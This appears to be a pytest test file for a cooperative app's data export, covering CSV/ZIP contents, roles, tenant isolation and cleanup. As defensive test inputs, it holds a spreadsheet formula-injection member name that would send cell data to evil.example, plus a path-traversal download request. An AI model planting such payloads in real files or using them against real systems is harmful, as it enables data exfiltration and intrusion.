"""A manager exports all of the cooperative's data: a background job (inline in tests) writes one ZIP with a
CSV per tenant table, the audit trail, a manifest with row counts and ledger totals, and the statements as
PDF; the page shows the job and offers the download. Nothing of another cooperative is in it."""

import csv
import io
import json
import os
import time
import zipfile

import pytest

from koperasi.accounts.models import AuditEvent
from koperasi.celery import app as celery_app
from koperasi.core.book_figures import book_figures
from koperasi.core.data_export import export_path
from koperasi.tenancy.context import cooperative_context
from koperasi.tenancy.models import Role
from tests.factories.members import ActiveMemberFactory, funded_account
from tests.factories.tenancy import user_with_role

pytestmark = pytest.mark.django_db


@pytest.fixture
def books(coop, other_coop, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    with cooperative_context(coop.pk):
        member = ActiveMemberFactory(name='=HYPERLINK("http://evil.example/?x="&A1,"klik")')
        funded_account("300000.00", member=member)
    with cooperative_context(other_coop.pk):
        ActiveMemberFactory(name="Budi Koperasi B")
    return member


def _export(client, coop):
    started = client.post(f"/k/{coop.slug}/export/start/")
    assert started.status_code == 302
    page = client.get(started["Location"])
    assert page.status_code == 200
    job = started["Location"].split("job=")[1]
    return job, page.content.decode()


def _table(archive: zipfile.ZipFile, name: str) -> list[dict]:
    text = archive.read(f"tables/{name}.csv").decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def test_a_manager_exports_every_table_the_manifest_and_the_statements(client, coop, manager, books):
    client.force_login(manager)
    job, page = _export(client, coop)
    assert 'data-testid="download"' in page and "Done:" in page
    download = client.get(f"/k/{coop.slug}/export/{job}/download/")
    assert download.status_code == 200 and download["Content-Type"] == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(b"".join(download.streaming_content)))
    manifest = json.loads(archive.read("manifest.json"))
    with cooperative_context(coop.pk):
        figures = book_figures()
    assert manifest["cooperative"]["slug"] == coop.slug and manifest["generated_at"]
    assert manifest["ledger"] == figures["ledger"] and figures["ledger"]["debit"] != "0.00"
    assert {label: manifest["rows"][label] for label in figures["rows"]} == figures["rows"]
    for label, count in figures["rows"].items():  # one CSV per tenant table, as many rows as the table has
        assert len(_table(archive, label)) == count, label
    members = _table(archive, "members.Member")
    assert [row["name"] for row in members] == ["'" + books.name]  # the formula is text, not a formula
    assert {row["cooperative_id"] for row in members} == {str(coop.pk)}
    events = _table(archive, "accounts.AuditEvent")
    assert events and {row["cooperative_id"] for row in events} == {str(coop.pk)}
    assert "savings.deposit" in {row["action"] for row in events}
    assert any(name.startswith("documents/") and name.endswith(".pdf") for name in archive.namelist())
    for name in manifest["documents"]:
        assert archive.read(f"documents/{name}").startswith(b"%PDF")
    assert manifest["documents_not_made"] == []
    assert b"Budi Koperasi B" not in b"".join(archive.read(name) for name in archive.namelist())
    with cooperative_context(coop.pk):
        assert AuditEvent.objects.filter(cooperative_id=coop.pk, action="data.exported", actor=manager).exists()


def test_staff_and_assessors_cannot_export(client, coop, staff, books):
    client.force_login(staff)
    assert client.get(f"/k/{coop.slug}/export/").status_code == 403
    assert client.post(f"/k/{coop.slug}/export/start/").status_code == 403
    client.force_login(user_with_role(coop, Role.ASSESSOR, username="penilai"))
    assert client.get(f"/k/{coop.slug}/export/").status_code == 403
    assert client.post(f"/k/{coop.slug}/export/start/").status_code == 403


def test_another_cooperatives_export_cannot_be_downloaded(client, coop, other_coop, manager, books):
    client.force_login(user_with_role(other_coop, Role.MANAGER, username="manajer-b"))
    job, _page = _export(client, other_coop)
    assert export_path(other_coop.pk, job).is_file()
    client.force_login(manager)
    assert client.get(f"/k/{coop.slug}/export/{job}/download/").status_code == 404
    assert client.get(f"/k/{other_coop.slug}/export/{job}/download/").status_code == 404  # no role in B
    assert client.get(f"/k/{coop.slug}/export/..%2F..%2Fsecret/download/").status_code == 404


JOB = "5b7f3c1e-0d2a-4c8e-9f61-2a4b6c8d0e1f"  # a Celery task id


def test_the_page_shows_a_running_jobs_progress(client, coop, manager, books):
    from django.core.cache import cache

    from koperasi.core.tasks import export_job_key

    cache.set(export_job_key(coop.pk, JOB), {"state": "STARTED", "done": 3, "total": 40})
    client.force_login(manager)
    html = client.get(f"/k/{coop.slug}/export/", {"job": JOB}).content.decode()
    assert '<progress max="40" value="3">' in html and 'http-equiv="refresh"' in html
    assert 'data-testid="download"' not in html


def test_a_document_that_cannot_be_printed_leaves_a_note_and_the_export_goes_on(
    client, coop, manager, books, monkeypatch
):
    from django.db import connection

    from koperasi.core import data_export

    def broken(cooperative):
        with connection.cursor() as cursor:
            cursor.execute("SELECT no_such_column FROM members_member")
        return {}

    data_export.discover()
    monkeypatch.setitem(data_export.DOCUMENTS, "tests.broken", broken)
    client.force_login(manager)
    job, page = _export(client, coop)
    assert 'data-testid="download"' in page
    archive = zipfile.ZipFile(export_path(coop.pk, job))
    manifest = json.loads(archive.read("manifest.json"))
    assert [note.split(":")[0] for note in manifest["documents_not_made"]] == ["tests.broken"]
    assert manifest["documents"] and manifest["ledger"]["debit"] != "0.00"


def test_with_the_job_queue_down_the_export_is_refused_with_a_message_and_nothing_starts(
    client, coop, manager, books, monkeypatch
):
    from kombu.exceptions import OperationalError

    from koperasi.core.tasks import export_cooperative_data

    def broker_down(*args, **kwargs):
        raise OperationalError("Error 111 connecting to 127.0.0.1:6379. Connection refused.")

    monkeypatch.setattr(export_cooperative_data, "apply_async", broker_down)
    client.force_login(manager)
    response = client.post(f"/k/{coop.slug}/export/start/", follow=True)
    assert response.status_code == 200 and "?job=" not in response.redirect_chain[-1][0]
    assert "the job queue cannot be reached" in response.content.decode()


def test_export_zips_no_page_offers_any_more_are_deleted_daily(client, coop, manager, books, settings):
    """Once a job's state has expired (JOB_TIMEOUT) its ZIP cannot be downloaded: the daily task deletes it,
    and a cooperative's or an assessor's ZIP still on offer stays."""
    from koperasi.core.tasks import delete_expired_exports
    from performance.assessor_jobs import export_path as assessor_export_path

    client.force_login(manager)
    fresh, _page = _export(client, coop)
    old = export_path(coop.pk, JOB)
    old.write_bytes(b"PK old")
    old_assessors = assessor_export_path(7, JOB)
    old_assessors.parent.mkdir(parents=True)
    old_assessors.write_bytes(b"PK old")
    two_days_ago = time.time() - 2 * 24 * 3600
    for path in (old, old_assessors):
        os.utime(path, (two_days_ago, two_days_ago))

    assert delete_expired_exports.apply().get() == 2
    assert not old.exists() and not old_assessors.exists()
    assert client.get(f"/k/{coop.slug}/export/{fresh}/download/").status_code == 200
    assert "delete_expired_exports" in " ".join(entry["task"] for entry in celery_app.conf.beat_schedule.values())
